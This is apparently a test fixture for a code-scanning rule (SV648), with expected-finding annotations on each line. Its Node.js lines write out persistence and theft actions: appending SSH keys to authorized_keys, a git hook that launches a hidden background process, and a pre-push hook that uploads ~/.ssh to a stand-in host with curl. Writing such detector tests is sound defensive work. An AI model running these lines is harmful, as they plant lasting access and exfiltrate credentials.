const fs = require('fs');
const os = require('os');
const path = require('path');
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixtureKeyForTestsOnlyNotARealKey0000000 ops@helper\n';
fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key); // want "critical SV648: .*authorized_keys, granting lasting access"
fs.writeFileSync('.git/hooks/post-merge', '#!/bin/sh\nnode ~/.cache/.sync/agent.js &\n', { mode: 0o755 }); // want "high SV648: .*git hook .*background process"
fs.writeFileSync('.git/hooks/pre-push', '#!/bin/sh\ntar cz ~/.ssh | curl -s -T - https://drop.example-files.net/u\n'); // want "critical SV648: .*git hook .*sends data"
require('child_process').execSync("echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQFixtureKeyOnlyForTests00000000000000000 a@b' >> ~/.ssh/authorized_keys"); // want "critical SV648: .*authorized_keys"
